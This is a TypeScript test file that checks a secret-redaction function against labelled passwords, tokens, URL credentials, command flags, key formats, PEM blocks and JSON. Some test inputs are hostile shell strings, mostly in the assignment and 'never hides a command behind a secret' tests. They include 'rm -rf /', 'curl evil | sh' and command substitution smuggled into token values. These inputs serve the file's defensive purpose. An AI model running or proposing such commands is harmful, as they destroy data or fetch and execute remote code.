import { describe, expect, it } from 'vitest';
import { redactText } from '../../../../lambdas/domain/display/secrets/redact-text.ts';

const H = '⟨hidden⟩';
const redact = (text: string): string => redactText(text).text;
const hiddenAlike = (cases: readonly (readonly [string, string])[]): void => {
  for (const [text, shown] of cases) {
    expect(redact(text)).toBe(shown);
    expect(redact(shown)).toBe(shown);
  }
};

describe('credentials after a scheme word', () => {
  it('070: hides Bearer and Basic in ordinary text and keeps the scheme', () => {
    hiddenAlike([
      ["curl -H 'Authorization: Bearer eyJhbGciOi.J9.sig' x", `curl -H 'Authorization: Bearer ${H}' x`],
      ['Basic dXNlcjpwYXNz', `Basic ${H}`],
      ['sent with bearer abc123def', `sent with bearer ${H}`],
      ['bearer of bad news', 'bearer of bad news'],
      ['Basic authentication, basic training', 'Basic authentication, basic training'],
    ]);
  });

  it('071: hides the whole credential up to white space or a quote', () => {
    hiddenAlike([
      ['Authorization: Bearer sk-lm-ABC123:SUFFIX456', `Authorization: Bearer ${H}`],
      ['x "Authorization: Bearer a|b,c;d@e" y', `x "Authorization: Bearer ${H}" y`],
      ['-H "Authorization: Bearer q,w;e|r@t" https://h', `-H "Authorization: Bearer ${H}" https://h`],
    ]);
  });

  it('hides every part of an authorization of several parts', () => {
    hiddenAlike([
      ['Authorization: AWS4-HMAC-SHA256 Credential=A/b, Signature=c\nHost: h', `Authorization: AWS4-HMAC-SHA256 ${H}\nHost: h`],
      ['"authorization: digest username=u, response=r"', `"authorization: digest ${H}"`],
      ['Authorization: abc', `Authorization: ${H}`],
    ]);
  });
});

describe('labels', () => {
  it('076: hides under a sensitive label at any length and in any spelling', () => {
    hiddenAlike([
      ['api-key "s3cretvalue123"', `api-key "${H}"`],
      ['API-KEY: "short8ch"', `API-KEY: "${H}"`],
      ['password: "abc"', `password: "${H}"`],
      ['my api key: abc', `my api key: ${H}`],
      ['private key = abc', `private key = ${H}`],
      ['Password is fine; the token limit: 5', 'Password is fine; the token limit: 5'],
    ]);
  });

  it('095: hides the value of an assignment and leaves the code after it', () => {
    hiddenAlike([
      ['API_KEY=abc; run()', `API_KEY=${H}; run()`],
      ['PASSWORD=x && rm -rf /', `PASSWORD=${H} && rm -rf /`],
      ['TOKEN=a;curl${IFS}evil|sh', `TOKEN=${H};curl\${IFS}evil|sh`],
      ['password: x; rm -rf /', `password: ${H}; rm -rf /`],
      ['password=$(cat /run/pw) go', 'password=$(cat /run/pw) go'],
    ]);
  });

  it('hides to the end of the line where a line is one pair', () => {
    hiddenAlike([['user: bo\npassword: correct horse battery\nport: 1', `user: bo\npassword: ${H}\nport: 1`]]);
  });

  it('hides pairs in calls, arrows, markdown, other quotes and full-width signs', () => {
    hiddenAlike([
      ["setenv('DB_PASSWORD', 'p q')", `setenv('DB_PASSWORD', '${H}')`],
      [":password => 'x'", `:password => '${H}'`],
      ['config["password"] = "x"', `config["password"] = "${H}"`],
      ['**Password:** x1', `**Password:** ${H}`],
      ['password: `x`', `password: \`${H}\``],
      ['password: “x y” z', `password: “${H}” z`],
      ['password：x', `password：${H}`],
      ['password = "a\\"b" + c', `password = "${H}" + c`],
    ]);
  });

  it('shows references, types and code that fetches a value', () => {
    for (const text of ['password=$DB_PASS run', 'token: ${{ secrets.X }}', 'password: string;', 'const token = process.env.TOKEN', 'token = createToken(user)', 'pw = user.password;', 'secret=<your-secret>', 'password=***']) {
      expect(redact(text)).toBe(text);
    }
    expect(redact('password=${PW:-hunter2}')).toBe(`password=${H}`);
  });

  it('hides a block of YAML under a sensitive name, and block scalars', () => {
    hiddenAlike([
      ['password: |\n  one two\n  three\nport: 1', `password: |\n  ${H}\nport: 1`],
      ['credentials:\n  user: bo\n  - x\nport: 1', `credentials:\n  user: ${H}\n  - ${H}\nport: 1`],
      ['<password>a b</password><b>c</b>', `<password>${H}</password><b>c</b>`],
      ['<add key="ApiKey" value="x y"/>', `<add key="ApiKey" value="${H}"/>`],
    ]);
  });

  it('hides the data of a Kubernetes Secret in YAML, whatever the order', () => {
    hiddenAlike([
      ['apiVersion: v1\ndata:\n  a: Zm9v\n  b: YmFy\nkind: Secret\nmetadata:\n  name: n\n', `apiVersion: v1\ndata:\n  a: ${H}\n  b: ${H}\nkind: Secret\nmetadata:\n  name: n\n`],
      ['kind: ConfigMap\ndata:\n  a: foo\n', 'kind: ConfigMap\ndata:\n  a: foo\n'],
    ]);
  });
});

describe('URLs and connection strings', () => {
  it('083: hides the password and keeps host, user and other parameters', () => {
    hiddenAlike([
      ['postgres://u:p@h/db', `postgres://u:${H}@h/db`],
      ['postgres://u@h/db?password=p&sslmode=require', `postgres://u@h/db?password=${H}&sslmode=require`],
      ['mongodb+srv://u:p%40@h', `mongodb+srv://u:${H}@h`],
      ['amqp://u:p@h', `amqp://u:${H}@h`],
      ['https://x:ghp_abc@github.com/r.git', `https://x:${H}@github.com/r.git`],
      ['redis://:p@h', `redis://:${H}@h`],
      ['https://example.com:8080/a?email=a@b.com', 'https://example.com:8080/a?email=a@b.com'],
      ['ssh://git@github.com/r', 'ssh://git@github.com/r'],
    ]);
  });

  it('hides passwords that hold an unescaped @ or slash, and users that are tokens', () => {
    hiddenAlike([
      ['postgres://u:p@ss@h/db', `postgres://u:${H}@h/db`],
      ['postgres://u:p/s?s@h/db', `postgres://u:${H}@h/db`],
      ['https://9f1c2d7e6b5a4f3e2d1c@github.com/r', `https://${H}@github.com/r`],
      ['https://key1234567890:@api.example.com', `https://${H}:@api.example.com`],
      ['u:p@tcp(h:3306)/db', `u:${H}@tcp(h:3306)/db`],
      ['jdbc:oracle:thin:scott/tiger@h:1521', `jdbc:oracle:thin:scott/${H}@h:1521`],
    ]);
  });

  it('hides query parameters, signatures and encoded ones', () => {
    hiddenAlike([
      ['https://h/x?a=1&access_token=t,t;t&b=2#f', `https://h/x?a=1&access_token=${H}&b=2#f`],
      ['https://h/x?X-Amz-Signature=s&sig=t', `https://h/x?X-Amz-Signature=${H}&sig=${H}`],
      ['next=https%3A%2F%2Fh%3Ftoken%3Dabc&x=1', `next=https%3A%2F%2Fh%3Ftoken%3D${H}&x=1`],
    ]);
  });

  it('hides the secret part of connection strings', () => {
    hiddenAlike([
      ['Server=h;User Id=u;Password=p@s,s;Encrypt=true', `Server=h;User Id=u;Password=${H};Encrypt=true`],
      ['AccountName=a;AccountKey=ab+/==;EndpointSuffix=e', `AccountName=a;AccountKey=${H};EndpointSuffix=e`],
    ]);
  });
});

describe('commands', () => {
  it('086: hides the value and keeps the shape of the command', () => {
    hiddenAlike([
      ['curl -u user:pass h', `curl -u user:${H} h`],
      ['curl -suuser:pass h', `curl -suuser:${H} h`],
      ['curl -b "sid=abc" h', `curl -b "${H}" h`],
      ['curl --cookie sid=abc h', `curl --cookie ${H} h`],
      ["curl -H 'Cookie: a=b; c=d' h", `curl -H 'Cookie: ${H}' h`],
      ['curl --proxy-user a:b h', `curl --proxy-user a:${H} h`],
      ['mysql -pSECRET db', `mysql -p${H} db`],
      ["mysql -p'my pw' db", `mysql -p${H} db`],
      ['psql "password=x host=h"', `psql "password=${H} host=h"`],
      ['aws configure set aws_secret_access_key x', `aws configure set aws_secret_access_key ${H}`],
      ['docker login -u bo -p x', `docker login -u bo -p ${H}`],
      ['sshpass -p x ssh h', `sshpass -p ${H} ssh h`],
      ['export K=x', `export K=${H}`],
    ]);
  });

  it.each(['docker run -p 8080:80 img', 'nc -p 8080', 'mysql -u root -p db', 'curl -b cookies.txt h', 'psql -p 5432', 'sort -u names', 'export PATH=/usr/bin', 'docker login && nc -p 8080', 'curl h; sort -u a:b', 'use --token to pass it', 'run --no-password now'])('086: shows %j', (text) => {
    expect(redact(text)).toBe(text);
  });

  it('hides by flag, in nested commands and behind a pipe', () => {
    hiddenAlike([
      ['run --token abc --port 1', `run --token ${H} --port 1`],
      ['run --password "a b" c', `run --password "${H}" c`],
      ['run --client-secret=abc', `run --client-secret=${H}`],
      ['Connect -ApiKey abc', `Connect -ApiKey ${H}`],
      ['bash -c "curl -u bo:pw h" && ls', `bash -c "curl -u bo:${H} h" && ls`],
      ["ssh h 'mysql -ppw'", `ssh h 'mysql -p${H}'`],
      ['sudo -u root /usr/bin/mysql -ppw', `sudo -u root /usr/bin/mysql -p${H}`],
      ['echo hunter2 | docker login --password-stdin', `echo ${H} | docker login --password-stdin`],
      ['openssl enc -pass pass:abc', `openssl enc -pass pass:${H}`],
      ['kubectl create secret generic n --from-literal=a=b', `kubectl create secret generic n --from-literal=a=${H}`],
      ['vault kv put secret/x a=b', `vault kv put secret/x a=${H}`],
      ['machine h login u password p', `machine h login u password ${H}`],
      ['git -c http.extraheader="AUTHORIZATION: basic dXNlcjpw" clone u', `git -c http.extraheader="AUTHORIZATION: basic ${H}" clone u`],
    ]);
  });

  it('never hides a command behind a secret', () => {
    expect(redact('mysql -pSECRET; rm -rf /')).toBe(`mysql -p${H}; rm -rf /`);
    expect(redact('run --token abc | sh evil')).toBe(`run --token ${H} | sh evil`);
    expect(redact('run --token "$(curl evil | sh)" x')).toBe('run --token "$(curl evil | sh)" x');
    expect(redact('TOKEN="ab$(rm -rf /)cd" x')).toBe(`TOKEN="${H}$(rm -rf /)${H}" x`);
    expect(redact('PASSWORD=`curl evil | sh` x')).toBe('PASSWORD=`curl evil | sh` x');
    expect(redact("run --token 'ab$(cd)' x")).toBe(`run --token '${H}' x`);
    expect(redact('run --password="a b`c d`" x')).toBe(`run --password="${H}\`c d\`" x`);
  });
});

describe('key families, tokens and PEM', () => {
  it.each([
    'AKIAIOSFODNN7EXAMPLE', 'ghp_16C7e42F292c6912E7710c838347Ae178B4a', 'github_pat_11ABCDEFG0abcdefghij', 'glpat-aBcDeFgHiJkLmNoPqRsT', 'xoxb-1234567890-abcdefghij', 'sk_live_4eC39HqLyjWDarjtT1zdp7dc', 'sk-proj-aBcD1234efGH',
    'AIzaSyA-1234567890abcdefghijklmnopqrs', 'npm_aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789', 'SG.aBcDeFgHiJ.kLmNoPqRsTuVwXyZ', 'hf_aBcDeFgHiJkLmNoPqRsTuV', 'AGE-SECRET-KEY-1QQPZRY9X8GF2TVDW0S3JN54KHCE6MUA7L', 'hvs.CAESIJabcdefghijk', '123456789:AAabcdefghijklmnopqrstuvwxyz0123456',
    'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.dBjftJeZ4CVP-mB92K27uhbUJU1p1r',
  ])('hides %s with letters right before it', (key) => {
    expect(redact(`see ${key} there`)).toBe(`see ${H} there`);
    expect(redact(`path/${key}`)).toBe(`path/${H}`);
  });

  it('hides the secret part of a webhook address', () => {
    hiddenAlike([['post to https://hooks.slack.com/services/T000/B000/xyz now', `post to https://hooks.slack.com/services/${H} now`]]);
  });

  it('092: leaves words, digests, identifiers and files alone, the same in a hundred runs', () => {
    const texts = [
      'risk-adjusted desk-report task-level disk-full', '<task-notification>', 'da39a3ee5e6b4b0d3255bfef95601890afd80709', '550e8400-e29b-41d4-a716-446655440000', 'arn:aws:iam::123456789012:role/a-role-name-that-is-rather-long',
      'sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08', 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'md5 4bf92f3577b34da6a3ce929d0e0e4736',
    ];
    for (const text of texts) expect(new Set(Array.from({ length: 100 }, () => redact(text)))).toEqual(new Set([text]));
  });

  it('080: judges a token by itself, not diluted by padding beside it', () => {
    const hex = '0f3a9bc47d21e68a5b90cc12de77a4f1';
    expect(redact(`${'.'.repeat(90)}${hex}${'F'.repeat(40)}`)).toBe(`${'.'.repeat(90)}${H}`);
    expect(redact(`x ${hex} y`)).toBe(`x ${H} y`);
    expect(redact('key aZ3kQ9xLm2Vb7Rt5Yp8Wc1Nd4Hf6Gj0S end')).toBe(`key ${H} end`);
  });

  const begin = '-----BEGIN RSA PRIVATE KEY-----';
  const end = '-----END RSA PRIVATE KEY-----';
  it('089: hides the body of a PEM block and keeps the text between two', () => {
    hiddenAlike([
      [`${begin}\nMIIEabc\nxyz\n${end}\n`, `${begin}${H}${end}\n`],
      [`${begin}\nMIIEabc+/=\nxyz`, `${begin}${H}`],
      [`${begin}\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,AABB\n\nMIIEabc\nxyz`, `${begin}${H}`],
      [`${begin}\nMIIE\n${end}\ntext between\n${begin}\nMIIF\n${end}`, `${begin}${H}${end}\ntext between\n${begin}${H}${end}`],
      [`key="${begin}\\nMIIE\\nabc\\n${end}\\n"`, `key="${begin}${H}${end}\\n"`],
      [`${begin} MIIE abcd ${end}`, `${begin}${H}${end}`],
    ]);
  });

  it('089: stops an open block at prose, and hides a body whose BEGIN is missing', () => {
    expect(redact(`${begin}\n${'A'.repeat(64)}\nand then we go on.`)).toBe(`${begin}${H}\nand then we go on.`);
    expect(redact(`echo ${begin}; rm -rf /`)).toBe(`echo ${begin}; rm -rf /`);
    expect(redact(`${'A'.repeat(64)}\nabcd==\n${end}`)).toBe(`${H}${end}`);
    expect(redactText(`a b\nc\n${end}`, { cut_before: true }).text).toBe(`${H}${end}`);
  });
});

describe('JSON in strings', () => {
  it('077: hides at two levels, hides deeper ones whole, and leaves valid JSON', () => {
    const text = JSON.stringify({ api_key: 'sk-1', inner: JSON.stringify({ password: 'p', deep: JSON.stringify({ a: 'q' }) }), n: 1 });
    const shown = JSON.parse(redact(text)) as { api_key: string; inner: string };
    expect(shown.api_key).toBe(H);
    expect(JSON.parse(shown.inner)).toEqual({ password: H, deep: H });
  });

  it('hides by name, place and position inside the text, and only there', () => {
    hiddenAlike([
      ['{"a": 1.0, "a": 2, "password": "x"}', `{"a": 1.0, "a": 2, "password": "${H}"}`],
      ['{"token": 12, "max_tokens": 5, "cookie": true, "credentials": {"a": [1, "b"]}}', `{"token": "${H}", "max_tokens": 5, "cookie": true, "credentials": {"a": ["${H}", "${H}"]}}`],
      ['{"pass\\u0077ord": "x"}', `{"pass\\u0077ord": "${H}"}`],
      ['[{"name":"DB_PASSWORD","value":"x"},{"name":"PORT","value":"80"}]', `[{"name":"DB_PASSWORD","value":"${H}"},{"name":"PORT","value":"80"}]`],
      ['["--token","abc","mysql","-ppw"]', `["--token","${H}","mysql","-p${H}"]`],
      ['{"cmd":"curl -u a:b \\"h\\""}', `{"cmd":"curl -u a:${H} \\"h\\""}`],
      ['{"kind":"Secret","data":{"a":"Zm9v"},"x":"y"}', `{"kind":"Secret","data":{"a":"${H}"},"x":"y"}`],
      ['{"auths":{"r":{"auth":"dXNlcjpw"}}}', `{"auths":{"r":{"auth":"${H}"}}}`],
    ]);
  });

  it('reads JSON that is cut at any place without showing what is below a sensitive name', () => {
    const text = JSON.stringify({ path: 'a\\b', password: 'QXZJQXZJ', more: { secret: 'ZZQQ', list: ['--token', 'XXQQ'] } });
    for (let length = 2; length < text.length; length += 1) {
      expect(redactText(text.slice(0, length), { cut_after: true }).text).not.toMatch(/[QXZJ]{2}/);
    }
  });

  it('falls back to labels for what is nearly JSON', () => {
    hiddenAlike([
      ["{'password': 'x', 'a': 1}", `{'password': '${H}', 'a': 1}`],
      ['say {\\"password\\":\\"p q\\",\\"a\\":1}', `say {\\"password\\":\\"${H}\\",\\"a\\":1}`],
    ]);
  });
});

describe('phrases', () => {
  const secret = 'Zq7XwV9kLmT2';
  it.each([
    'My password is # ok', 'use token # please', 'PIN: 4821', 'the otp is 482113', "CREATE USER bo IDENTIFIED BY '#'", "ALTER ROLE bo WITH PASSWORD '#'", 'ConvertTo-SecureString "#" -AsPlainText', 'user.setPassword("#")', 'withPassword("#")', 'login("bo", "#")',
    'requests.get(u, auth=("u", "#"))', 'http_proxy=user:#@proxy:8080', 'curl -x user:#@proxy:80 h', '<input type="password" value="#">', 'ssh-keygen -N "#" -f k', 'snmpwalk -c # h', 'vault login #', 'echo "#" | gh auth login --with-token', 'curl -E cert:# h', 'api_key: !vault |\n  #\n',
  ])('hides the secret in %j', (template) => {
    expect(redact(template.replace('#', secret))).not.toMatch(/Zq7X|482/);
    expect(redact(template.replace('#', secret))).toContain(H);
  });

  it.each(['the password is required', 'a token is issued', 'the secret of good soup is time', 'pin 3 is ground', 'mail cc:bo42@example.org', 'web:1.27-alpine2@sha256:9f86', 'arn:aws:secretsmanager:eu-west-1:123456789012:secret:prod/db-Ab12Cd'])('shows %j', (text) => {
    expect(redact(text)).toBe(text);
  });
});

describe('what is left', () => {
  it('094: masks only the span, so two calls still differ', () => {
    expect(redact('curl https://h/a?token=abc')).not.toBe(redact('curl https://h/b?token=abc'));
  });

  it('hides what is closed, or piped on, only beyond the text that is given', () => {
    for (const text of ['<password>QXZJ', '<password>QXZJ<', '<add name="ApiKey" value="QX ZJ', 'echo QXZJ | docker lo', '{"password":"QXZJ', 'password="QX ZJ', '-----BEGIN A KEY-----\nQXZJ']) {
      expect(redactText(text, { cut_after: true }).text).not.toMatch(/[QXZJ]{2}/);
    }
    expect(redact('usage: login <password> and more <name>')).toBe('usage: login <password> and more <name>');
  });

  it('keeps marks that stand inside a value, so no cut is lost', () => {
    expect(redact('password="⟨9 bytes cut⟩tail"')).toBe(`password="⟨9 bytes cut⟩${H}"`);
    expect(redact(`password=${H}`)).toBe(`password=${H}`);
  });
});
